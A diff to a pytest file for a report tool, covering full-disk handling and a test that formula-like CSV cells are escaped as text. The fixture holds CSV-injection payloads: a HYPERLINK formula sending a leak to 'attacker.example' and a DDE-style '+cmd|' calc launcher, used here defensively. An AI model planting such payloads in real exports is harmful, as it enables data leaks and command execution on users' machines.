@@ -74,22 +74,23 @@ def small_disk(tmp_path):
     skipped, saying why, where mounting is not permitted."""
     folder = tmp_path / "disk"
     folder.mkdir()
-    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder)],
-                             capture_output=True, text=True)
+    try:
+        mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder)],
+                                 capture_output=True, text=True)
+    except FileNotFoundError:
+        pytest.skip("cannot mount a small tmpfs to fill: no mount command here")
     if mounted.returncode != 0:
         pytest.skip(f"cannot mount a small tmpfs to fill (needs root): {mounted.stderr.strip()}")
     yield folder
     subprocess.run(["umount", "--lazy", str(folder)], check=True)
 
 
-def fill(disk: Path) -> Path:
-    """Fill ``disk`` to the last byte with a file; returns it (delete it to free the disk)."""
-    filler = disk / "filler"
-    with open(filler, "wb", buffering=0) as file:
+def fill(disk: Path) -> None:
+    """Fill ``disk`` to the last byte with a file."""
+    with open(disk / "filler", "wb", buffering=0) as file:
         with contextlib.suppress(OSError):
             while True:
                 file.write(b"\0" * 65536)
-    return filler
 
 
 def test_a_build_on_a_full_disk_is_a_record_naming_the_disk_and_leaves_nothing_behind(small_disk, tmp_path):
@@ -145,16 +146,20 @@ def test_a_run_folder_that_fills_up_stops_with_one_line_naming_the_disk(small_di
             assert len(list(read_lines(path))) == path.read_bytes().count(b"\n")
 
 
-def test_a_report_onto_a_full_disk_keeps_the_last_report_whole(linear_job, small_disk, capsys):
-    """report.csv was left with 0 bytes when the disk filled while it was written."""
-    out = small_disk / "report"
-    report_line(linear_job, out=out, capsys=capsys)
-    written = {path.name: path.read_bytes() for path in out.iterdir()}
+def test_a_report_onto_a_full_disk_leaves_no_empty_file_and_the_last_report_whole(linear_job, small_disk, capsys):
+    """A report written onto a full disk once left a 0-byte report.csv (and a traceback). Now it
+    says so in one line (exit 2) and leaves nothing; a report written there before stays whole."""
+    last = small_disk / "last"
+    report_line(linear_job, out=last, capsys=capsys)
+    written = {path.name: path.read_bytes() for path in last.iterdir()}
     fill(small_disk)
-    code, _, said = report(linear_job, out=out, capsys=capsys)
-    assert code == 2
-    assert f"no space left on device in {out}: free some space or write the report elsewhere (--out DIR)" in said
-    assert {path.name: path.read_bytes() for path in out.iterdir()} == written
+    for out in (small_disk / "fresh", last):
+        code, _, said = report(linear_job, out=out, capsys=capsys)
+        assert code == 2, said
+        assert said.strip().endswith(f"no space left on device in {out}: free some space or write the report "
+                                     "elsewhere (--out DIR)")
+    assert not list((small_disk / "fresh").iterdir())
+    assert {path.name: path.read_bytes() for path in last.iterdir()} == written
 
 
 def test_report_csv_cells_that_begin_like_formulas_are_text_and_numbers_stay_numbers(run, tmp_path, capsys):
@@ -163,15 +168,16 @@ def test_report_csv_cells_that_begin_like_formulas_are_text_and_numbers_stay_num
     parameter (alpha=-1.5) is still a number."""
     run(*scripts_corpus("formula_labels"), "runtime=torch-eager", "alpha=-1.5", job_dir=tmp_path / "job")
     report_line(tmp_path / "job", out=tmp_path / "report", capsys=capsys)
+    tables = {}
     for name in ("report.csv", "comparison.csv"):
         with open(tmp_path / "report" / name, newline="") as file:
-            rows = list(csv.DictReader(file))
+            rows = tables[name] = list(csv.DictReader(file))
         assert rows and rows[0]["model_name"] == "'=HYPERLINK(\"http://attacker.example/?leak=1\")"
         assert rows[0]["parameters.alpha"] == "-1.5"
         for row in rows:
             for cell in row.values():
                 if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                     float(cell)  # only a number may begin so
-    [row] = list(csv.DictReader(open(tmp_path / "report" / "report.csv", newline="")))
+    [row] = tables["report.csv"]
     assert (row["author"], row["task"], row["license"]) == ("'@SUM(1+1)", "'+cmd|'/c_calc'!A0", "'-2+3")
     assert pd.read_csv(tmp_path / "report" / "report.csv")["parameters.alpha"].dtype == float
